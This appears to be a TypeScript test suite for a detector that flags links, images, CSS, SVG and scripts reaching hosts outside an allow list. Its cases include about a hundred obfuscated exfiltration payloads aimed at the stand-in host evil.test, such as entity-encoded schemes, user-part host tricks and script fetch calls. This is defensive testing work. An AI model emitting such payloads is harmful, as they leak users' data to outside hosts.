import { AT_START } from '../detector.ts';
import { createLinksDetector } from './index.ts';

const detector = createLinksDetector(['docs.example.com', '*.corp.test']);
const AWAY = '//evil.test/x?q=c2VjcmV0';
const LONG = 'a'.repeat(310);

describe('references that a browser or a renderer follows to another host', () => {
  it.each([
    ['a definition on the next line', `![a][1]\n\n[1]:\n${AWAY}`],
    ['a definition in a quotation', `> ![a][1]\n>\n> [1]:\n> ${AWAY}`],
    ['a definition behind many spaces', `![a][1]\n\n[1]:      ${AWAY}`],
    ['a definition with slashes as entities', '[1]: &sol;&sol;evil.test/x?q=s'],
    ['a definition in angle brackets', `[1]:\n<${AWAY}>`],
    ['brackets and a line break in the text of an image', `![a [b] c](\n${AWAY})`],
    ['a line break in the text of an image', `![a\nb](\n${AWAY})`],
    ['a long text and many spaces', `![${LONG}](     ${AWAY})`],
    ['a line break before a target', `[a](\n${AWAY})`],
    ['a target behind tabs', `[a](\t\t\t\t\t\t${AWAY})`],
    ['the colon as an entity', `[a](https&colon;${AWAY})`],
    ['a letter as an entity', `[a](&#104;ttps:${AWAY})`],
    ['a letter as a long entity', `[a](&#x0000068;ttp:evil.test/x)`],
    ['an entity without a semicolon', `<a href="&#104ttps:${AWAY}">a</a>`],
    ['a tab as an entity inside of the scheme', `[a](ht&Tab;tps:${AWAY})`],
    ['slashes with backslashes before them', '[a](https\\:\\/\\/evil.test/x)'],
    ['a target of two escaped slashes', '[a](\\/\\/evil.test/x)'],
    ['backslashes for slashes', '[a](\\\\evil.test/x)'],
    ['a slash and a backslash', '[a](/\\evil.test/x)'],
    ['three slashes', '[a](///evil.test/x)'],
    ['no slashes under http', '[a](http:evil.test/x?q=s)'],
    ['no slashes under https', '[a](https:evil.test/x?q=s)'],
    ['one slash', '[a](https:/evil.test/x)'],
    ['another scheme', '[a](smb://evil.test/x)'],
    ['a scheme around it', '[a](view-source:https://evil.test/x)'],
    ['an allowed host as the user', '[a](//docs.example.com@evil.test/x)'],
    ['an allowed host and an escaped bracket as the user', '[a](https://docs.example.com\\(@evil.test/x)'],
    ['an allowed host and brackets as the user', '[a](https://docs.example.com(x)@evil.test/x)'],
    ['an allowed host and a square bracket as the user', '[a](https://docs.example.com[@evil.test/x)'],
    ['an allowed host and a space as the user', '[a](<https://docs.example.com @evil.test/x>)'],
    ['a quotation mark as the user', '[a](https://"@evil.test/x)'],
    ['a percent sign in the host', '[a](//%65vil.test/x)'],
    ['an ideographic full stop', '[a](//evil。test/x)'],
    ['a number for a host', '[a](//2130706433/x)'],
    ['a host of IPv6', '[a](//[2001:db8::1]/x)'],
    ['a link inside of the target of another', '[a](/x[b](//evil.test/x)'],
    ['a link behind one that is allowed', '[a](https://docs.example.com/x),[b](http:evil.test/x)'],
    ['an address in emphasis', `_https:${AWAY}_`],
    ['an address behind a digit', `1https:${AWAY}`],
    ['a name in emphasis', '_www.evil.test/x?q=s_'],
    ['a plain address with an escape', 'https\\://evil.test/x'],
    ['a plain address with a bracket as the user', 'https://docs.example.com(@evil.test/x'],
    ['a plain address with a quotation mark as the user', 'https://docs.example.com"@evil.test/x'],
    ['an address in angle brackets', '<https://evil.test/x>'],
    ['@import', `<style>@import "${AWAY}";</style>`],
    ['@import of a URL', `<style>@import url(${AWAY});</style>`],
    ['url() behind a line break', `<div style="background:url(\n${AWAY})">`],
    ['url() in letters of CSS', `<style>a{background:\\75 rl(${AWAY})}</style>`],
    ['slashes in letters of CSS', '<style>@import "\\2f\\2f evil.test/x";</style>'],
    ['image-set()', `<style>a{background:image-set("${AWAY}" 1x)}</style>`],
    ['a form', `<form><button formaction="${AWAY}">a</button></form>`],
    ['a frame', `<frameset><frame src="${AWAY}"></frameset>`],
    ['a filter of SVG', `<svg><filter><feImage href="${AWAY}"/></filter></svg>`],
    ['a link of SVG', `<svg><a xlink:href="${AWAY}">a</a></svg>`],
    ['an animated link of SVG', `<svg><animate attributeName=href to="${AWAY}"/></svg>`],
    ['a refresh', `<meta http-equiv=refresh content="0;url=${AWAY}">`],
    ['a refresh without its word', `<meta http-equiv=refresh content="0;${AWAY}">`],
    ['a base', '<base href=//evil.test/>'],
    ['a ping', `<a href=/x ping="/y ${AWAY}">a</a>`],
    ['a poster', `<video poster=${AWAY}></video>`],
    ['a background', `<body background=${AWAY}>`],
    ['slashes between attributes', `<img/src=${AWAY}>`],
    ['a line break inside of a host', '<a href="https://docs.example.com\n@evil.test/x">a</a>'],
    ['line breaks inside of a scheme', '<a href="ht\ntps:/\n/evil.test/x">a</a>'],
    ['an unclosed tag', `<img src=${AWAY}`],
    ['an unknown tag', `<x-card src="${AWAY}"></x-card>`],
    ['a document in an attribute', `<iframe srcdoc="<img src=${AWAY}>"></iframe>`],
    ['a script', `<script>fetch("${AWAY}")</script>`],
    ['a script that puts a string together', '<script>fetch("/" + "/evil.test/x")</script>'],
    ['a handler', `<img src=/x onerror="fetch('${AWAY}')">`],
    ['a template of a script', `<script>new Image().src = \`${AWAY}\`</script>`],
    ['a data structure', `{"url":"${AWAY}"}`],
    ['marks of forums', `[img]${AWAY}[/img]`],
    ['a quoted sign that ends tags', `<img alt="a > b" src="${AWAY}">`],
    ['line breaks around an equals sign', `<img\nsrc\n=\n"${AWAY}">`],
    ['@import without a space', `<style>@import"${AWAY}"</style>`],
    ['a button that is an image', `<input type=image formaction=${AWAY} src=/a>`],
    ['the second of two sources', `<source srcset="/a 1x,${AWAY} 2x">`],
    ['sources of a preloaded image', `<link rel=preload imagesrcset="${AWAY} 1x">`],
    ['a definition with a title', `[r]: <${AWAY}> 'title'`],
    ['an image inside of a link', `[![a](/x)](${AWAY})`],
    ['a part of an SVG elsewhere', `<svg><use xlink:href="${AWAY}#a"/></svg>`],
    ['a parameter of an object', `<object><param name=movie value="https:${AWAY}"></object>`],
    ['a variable of CSS', `<style>:root{--a:url(${AWAY})}</style>`],
    ['a font', `<style>@font-face{src:url(${AWAY})}</style>`],
    ['a tab before an address', `<a href="\t${AWAY}">x</a>`],
    ['a control character before an address', `<a href="\u0001https:${AWAY}">x</a>`],
    ['a title on the next line', `![a](${AWAY}\n"title")`],
    ['a long description', `<img src=/a longdesc="${AWAY}">`],
    ['the source of a quotation', `<blockquote cite="${AWAY}">`],
    ['an unclosed quotation mark', `<img src="${AWAY}`],
    ['no space between attributes', `<img alt="a"src="${AWAY}">`],
    ['MathML', `<math><mtext href="${AWAY}">x</mtext></math>`],
    ['a stylesheet of XML', `<?xml-stylesheet href="${AWAY}"?>`],
    ['a document type', `<!DOCTYPE x SYSTEM "https:${AWAY}">`],
    ['a footnote', `[^1]: https:${AWAY}`],
    ['TeX', `\\href{${AWAY}}{a}`],
  ])('%s', (_, text) => {
    expect(detector.scan(text)).not.toEqual([]);
    expectSameInPieces(text);
  });
});

describe('unchanged parts', () => {
  it.each([
    'See [the guide](https://docs.example.com/guide#start) and [the list](./list.md).',
    '[guide]: https://docs.example.com/guide "The guide"',
    '[1]:\nhttps://docs.example.com/a',
    '[a](https://docs.example.com), [b](https://a.corp.test/x(y)) and [c](#c).',
    '[a](https:\\/\\/docs.example.com\\/a)',
    '{"a":"https:\\/\\/docs.example.com\\/x","b":"\\/path\\/x"}',
    '{"a":"https://docs.example.com","mail":"jo@corp.example"}',
    '[mail](mailto:jo@corp.example)',
    '[call](tel:+15550100)',
    '![chart](/charts/a.png "A chart")',
    '![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    '- [ ] one\n- [x] two: done',
    'for (const x of list) { //console.log(x.name)\n}',
    'const a = b[0]; // first.item',
    'if (a[0]) { b(); } //see foo.bar',
    'case KINDS[x]: // comment',
    'type Map = { [key: string]: string };',
    'values[1]: number',
    'print(a[1:]) # rest',
    'x = y // 2',
    'driver.find_element(By.XPATH, "//div[@id=\'a\']/span")',
    '@FindBy(xpath="//button")',
    'deps = ["//lib:core", "//visibility:public"]',
    'const re = "\\\\bnode.js\\\\b";',
    'const js = /\\/\\/.*$/;',
    'path = "C:\\\\Users\\\\jo\\\\file.txt"',
    'SELECT "a"."b" FROM c WHERE d = \'e\'',
    'a{background:url(/img/a.png)}',
    'a{background:url("img/a.png")} @import "base.css";',
    'a::after{content:"//"}',
    '<img src="/a.png" srcset="/a.png 1x, /b.png 2x" alt="// a">',
    '<a href="#top">top</a><a href="page.html?x=1&amp;y=2">next</a>',
    '<script src="/app.js"></script>',
    '<script>fetch("/api/items?x=" + id)</script>',
    '<button onclick="save(\'a\')">Save</button>',
    '<meta http-equiv="refresh" content="5; url=/next">',
    '<meta name="viewport" content="width=device-width, initial-scale=1">',
    '<link rel="stylesheet" href="https://docs.example.com/a.css">',
    'Links begin with https:// or http://.',
    'Write http: or https: before the name.',
    'https://docs.example.com/a(b)_c',
    '(https://docs.example.com/a)',
    '"https://docs.example.com/a", he said.',
    '**https://docs.example.com/a**',
    '<https://docs.example.com/a>',
    'git clone git@docs.example.com:team/app.git',
    'std::vector<int> a = {1, 2}; // numbers',
    'List<String> names = new ArrayList<>();',
    'if a < b and c > d: print("e")',
    'ratio 1:2, at 10:30, and so on...',
    '```ts\nimport { a } from "./a.ts";\nexport const b = a("x");\n```',
    '```sh\nnpm install && npm test -- --watch=false\n```',
    '```css\n@media (max-width: 600px) { .a { color: red } }\n```',
    '```html\n<ul class="menu"><li><a href="/a">A</a></li></ul>\n```',
    '```yaml\nkey: value\nlist: ["a", "b"]\n```',
    '```python\nwith open("file.txt") as f:\n    print(f.read())\n```',
    '| a | b |\n| --- | --- |\n| [x](/x) | `y` |',
    'const x = cond ? "a" : "b"; y ||= `c${d}`;',
    'He said "http is a protocol" and left.',
    'The file ends in .html; see section [3](#3).',
    'Use `href="/x"` or `src=image.png` there.',
  ])('%s', (text) => {
    expect(detector.scan(text)).toEqual([]);
  });
});

/** As a stream of single characters gives the same findings. */
function expectSameInPieces(text: string): void {
  let progress = AT_START;
  const found = [];
  for (let end = 1; end <= text.length; end++) {
    const until = end === text.length ? end : Math.max(progress.from, detector.hold(text.slice(0, end)));
    const resumed = detector.resume({ text: text.slice(0, end), base: 0, until }, progress);
    found.push(...resumed.findings);
    progress = resumed.progress;
  }
  expect(found).toEqual(detector.scan(text));
}

describe('texts that a search could read again for each of their characters', () => {
  it.each([
    ['one address after the other, the last one cut', 'http://a.b/'.repeat(20_000).slice(0, -6)],
    ['signs that do not end an address', `http://a.b/${'.'.repeat(200_000)}x:`],
  ])('%s: one finding', (_name, text) => {
    const [found, ...more] = detector.scan(text);
    expect(found).toMatchObject({ start: 0, end: text.length - 1 });
    expect(more).toEqual([]);
  });
});
